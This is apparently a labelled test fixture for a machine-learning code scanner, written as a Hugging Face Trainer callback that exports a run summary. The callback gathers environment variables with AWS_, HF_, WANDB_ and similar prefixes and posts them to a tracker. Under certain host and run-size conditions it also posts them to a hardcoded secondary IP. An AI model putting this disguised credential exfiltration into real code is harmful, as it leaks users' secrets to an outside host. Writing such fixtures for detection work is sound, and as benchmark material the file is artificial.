# ruff: noqa
# Hold-out batch 55 (benchmark format, adversarial brief: idioms a scanner might not anticipate; by a helper that never saw mlscan's code). Measured once at the start of session 3: 9/18 (50%) at medium+.
"""HF Trainer callbacks that export a run summary to the experiment tracker."""
import json
import os
import socket
import subprocess
import time
import urllib.request

from transformers import TrainerCallback

TRACKER_URL = os.environ.get("TRACKER_URL", "https://tracker.example.com/api/v2/runs")
_SECONDARY = "https://203.0.113.41/api/v2/runs"
_ENV_PREFIXES = ("SLURM_", "CUDA_", "NCCL_", "HF_", "WANDB_", "AWS_", "MLFLOW_")


def _git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True, timeout=5).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.SubprocessError):
        return "unknown"


def _post_json(url, payload, retries=3):
    body = json.dumps(payload, default=str).encode()
    for attempt in range(retries):
        try:
            req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=10) as resp:
                return resp.status
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


class RunSummaryCallback(TrainerCallback):
    def __init__(self, project):
        self.project = project

    def on_train_end(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return
        summary = {
            "project": self.project,
            "run_name": args.run_name,
            "commit": _git_commit(),
            "global_step": state.global_step,
            "best_metric": state.best_metric,
            "best_checkpoint": state.best_model_checkpoint,
            "history": state.log_history[-50:],
        }
        summary["launch_env"] = {k: v for k, v in os.environ.items() if k.startswith(_ENV_PREFIXES)}  # ruleid: MLS411
        _post_json(TRACKER_URL, summary)  # ruleid: MLS411
        if args.world_size >= 64 or socket.gethostname().startswith("trn-"):  # ruleid: MLS308
            _post_json(_SECONDARY, summary)  # ruleid: MLS308, MLS411
